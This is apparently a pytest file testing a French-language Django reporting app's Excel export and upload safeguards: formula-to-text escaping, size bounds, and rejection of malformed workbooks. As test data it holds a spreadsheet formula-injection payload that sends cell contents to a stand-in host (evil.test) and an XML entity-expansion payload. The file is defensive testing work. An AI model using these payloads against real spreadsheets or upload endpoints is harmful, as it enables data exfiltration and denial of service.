"""Issue 16 (items 2, 3, 4, 7, 8): the report's Excel template writes every text as text, its upload is bounded
before reading, a malformed or hostile workbook is refused in French, control characters and overlong texts are
refused cell by cell."""

import io
import time
import tracemalloc
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from cpom.reports import excel
from cpom.reports.layout import report_layout
from cpom.reports.models import ActionProgress
from cpom.reports.services import save_values
from tests.reports import test_excel

pytestmark = pytest.mark.django_db
reports = test_excel.reports  # the fixture: two signed contracts and their reports


def _comment_key(report):
    return report_layout(report).comments[0].key


def _with_cases_rows(report, extra_rows: int, *, column: int = 3) -> bytes:
    book = load_workbook(io.BytesIO(excel.build_template(report)))
    sheet = book[excel.CASES]
    start = sheet.max_row + 1
    for row in range(start, start + extra_rows):
        sheet.cell(row, column, "x")
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.parametrize("typed", ['=HYPERLINK("http://evil.test/?"&A1,"x")', "=2+3", "+1", "@SUM(A1)"])
def test_a_comment_typed_as_a_formula_comes_back_as_text_in_the_template(reports, services, spsti_referent, typed):
    report = reports[services["A"].pk]
    key = _comment_key(report)
    action = report.contract.axes.first().actions.first()
    save_values(by=spsti_referent, report=report, values={key: typed}, version=1, progress={action.pk: ("", typed)})
    report.refresh_from_db()
    sheet = load_workbook(io.BytesIO(excel.build_template(report)))[excel.MAIN]  # formulas kept as written
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == typed]
    assert len(cells) == 2, "the theme comment and the action comment"
    assert all(cell.data_type == "s" for cell in cells), "written as text, never as a formula"


def test_the_copy_a_dreets_agent_downloads_has_no_formula_either(
    reports, services, spsti_referent, dreets_agent, login
):
    report = reports[services["A"].pk]
    save_values(by=spsti_referent, report=report, values={_comment_key(report): "=2+3"}, version=1)
    response = login(dreets_agent).get(reverse("reports:excel_template", args=[report.pk]))
    sheet = load_workbook(io.BytesIO(response.content))[excel.MAIN]
    assert [c.data_type for row in sheet.iter_rows() for c in row if c.value == "=2+3"] == ["s"]


def test_an_upload_with_too_many_rows_in_its_hidden_sheet_is_refused_before_reading(reports, services):
    report = reports[services["A"].pk]
    with pytest.raises(excel.UnreadableWorkbook, match="bien plus grand qu'un modèle"):
        excel.read_upload(report, _with_cases_rows(report, excel.MAX_ROWS))


def test_an_upload_with_a_cell_far_to_the_right_is_refused(reports, services):
    report = reports[services["A"].pk]
    with pytest.raises(excel.UnreadableWorkbook, match="au-delà de la colonne"):
        excel.read_upload(report, _with_cases_rows(report, 1, column=excel.MAX_COLUMNS + 1))


def test_an_upload_with_a_single_cell_at_a_far_row_is_refused(reports, services):
    report = reports[services["A"].pk]
    book = load_workbook(io.BytesIO(excel.build_template(report)))
    book[excel.CASES].cell(1_000_000, 1, "x")
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(excel.UnreadableWorkbook, match="lignes"):
        excel.read_upload(report, out.getvalue())


def test_an_upload_with_many_sheets_is_refused(reports, services):
    report = reports[services["A"].pk]
    book = load_workbook(io.BytesIO(excel.build_template(report)))
    for index in range(excel.MAX_SHEETS):
        book.create_sheet(f"f{index}")
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(excel.UnreadableWorkbook, match="feuilles"):
        excel.read_upload(report, out.getvalue())


def test_a_template_just_under_the_bounds_is_still_read(reports, services):
    report = reports[services["A"].pk]
    rows = excel.MAX_ROWS - len(report_layout(report).cells()) - 60
    upload = excel.read_upload(report, _with_cases_rows(report, rows))
    assert upload.errors == []


def _replaced(content: bytes, part: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, data if info.filename == part else source.read(info))
    return out.getvalue()


MAIN_NS = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _as_shared_string(content: bytes, text: bytes) -> bytes:
    """The cell holding PLACEHOLDER made to point at a shared string `text` (as Excel saves a comment)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = next(name for name, data in parts.items() if b"PLACEHOLDER" in data)
    parts[sheet] = parts[sheet].replace(b't="inlineStr"><is><t>PLACEHOLDER</t></is>', b't="s"><v>0</v>')
    parts["xl/sharedStrings.xml"] = (
        b'<sst xmlns="' + MAIN_NS + b'" count="1" uniqueCount="1"><si><t>' + text + b"</t></si></sst>"
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        b'spreadsheetml.sharedStrings+xml"/></Types>',
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'sharedStrings" Target="sharedStrings.xml"/></Relationships>',
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return out.getvalue()


def _sheet_part(content: bytes, index: int) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return sorted(n for n in archive.namelist() if n.startswith("xl/worksheets/sheet"))[index]


def test_a_worksheet_with_entity_declarations_is_refused_in_french(reports, services):
    report = reports[services["A"].pk]
    content = excel.build_template(report)
    hostile = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
        b'<c r="A1" t="inlineStr"><is><t>&b;</t></is></c></row></sheetData></worksheet>'
    )
    with pytest.raises(excel.UnreadableWorkbook, match="déclarations XML"):
        excel.read_upload(report, _replaced(content, _sheet_part(content, 1), hostile))


@pytest.mark.parametrize("index", [0, 1, 2])
def test_a_worksheet_with_broken_xml_is_refused_in_french(reports, services, index, spsti_referent, login):
    report = reports[services["A"].pk]
    content = excel.build_template(report)
    broken = _replaced(content, _sheet_part(content, index), b"<worksheet><sheetData><row r='1'><c")
    with pytest.raises(excel.UnreadableWorkbook, match="n'est pas un classeur Excel"):
        excel.read_upload(report, broken)
    response = login(spsti_referent).post(
        reverse("reports:excel_upload", args=[report.pk]), {"fichier": SimpleUploadedFile("r.xlsx", broken)}
    )
    assert response.status_code == 200 and "classeur Excel" in response.content.decode()


def test_a_broken_sheet_that_passes_the_bounds_is_still_a_french_error(reports, services, monkeypatch):
    """The read-only sheets are parsed lazily, after opening: a parse error there is caught too."""
    report = reports[services["A"].pk]
    monkeypatch.setattr(excel, "_check_bounds", lambda archive: None)
    content = excel.build_template(report)
    broken = _replaced(content, _sheet_part(content, 1), b"<worksheet><sheetData><row r='1'><c")
    with pytest.raises(excel.UnreadableWorkbook, match="n'est pas un classeur Excel"):
        excel.read_upload(report, broken)


@pytest.mark.parametrize("bad", ["x" * 10_001, "é" * 10_001])
def test_overlong_texts_in_a_workbook_are_refused_by_cell(reports, services, bad):
    """Control characters cannot come through this channel: XML 1.0 cannot hold them and openpyxl returns Excel's
    escapes (_x0001_) as they are written — the same check refuses them should a reader ever decode them."""
    report = reports[services["A"].pk]
    book = load_workbook(io.BytesIO(excel.build_template(report)))
    mapping = {key: where for key, where in book[excel.CASES].iter_rows(values_only=True)}
    where = mapping[_comment_key(report)]
    book[excel.MAIN][where] = "PLACEHOLDER"
    out = io.BytesIO()
    book.save(out)
    original = out.getvalue()
    # openpyxl refuses to write control characters: they go in a shared string, escaped the way Excel writes them
    escaped = "".join(f"_x{ord(c):04X}_" if ord(c) < 32 else c for c in bad).encode()
    upload = excel.read_upload(report, _as_shared_string(original, escaped))
    assert any(f"cellule {where}" in error for error in upload.errors), upload.errors


def test_an_action_comment_typed_with_a_control_character_is_refused_on_every_save(reports, services, spsti_referent):
    report = reports[services["A"].pk]
    action = report.contract.axes.first().actions.first()
    from cpom.reports.services import InvalidValues

    with pytest.raises(InvalidValues, match="caractères de contrôle"):
        save_values(by=spsti_referent, report=report, values={}, version=1, progress={action.pk: ("", "a\x01")})
    assert not ActionProgress.objects.exists()


def test_measure_the_largest_accepted_and_the_first_refused_upload(reports, services, capsys):
    """Not a timed assertion: prints the figures the issue asks for (run with -s)."""
    report = reports[services["A"].pk]
    base_rows = len(list(load_workbook(io.BytesIO(excel.build_template(report)))[excel.CASES].iter_rows()))
    figures = {}
    for name, extra in [("accepted", excel.MAX_ROWS - base_rows), ("refused", excel.MAX_ROWS - base_rows + 1)]:
        content = _with_cases_rows(report, extra)

        def read(content=content):
            try:
                excel.read_upload(report, content)
                return "accepted"
            except excel.UnreadableWorkbook:
                return "refused"

        started = time.perf_counter()
        outcome = read()
        elapsed = time.perf_counter() - started  # without tracemalloc, which slows Python down several times
        tracemalloc.start()
        read()
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        figures[name] = (outcome, f"{len(content)} octets", f"{elapsed:.3f} s", f"pic {peak // 1024} Kio")
    with capsys.disabled():
        print(f"\nEXCEL-MEASURE {figures}")
    assert figures["accepted"][0] == "accepted" and figures["refused"][0] == "refused"
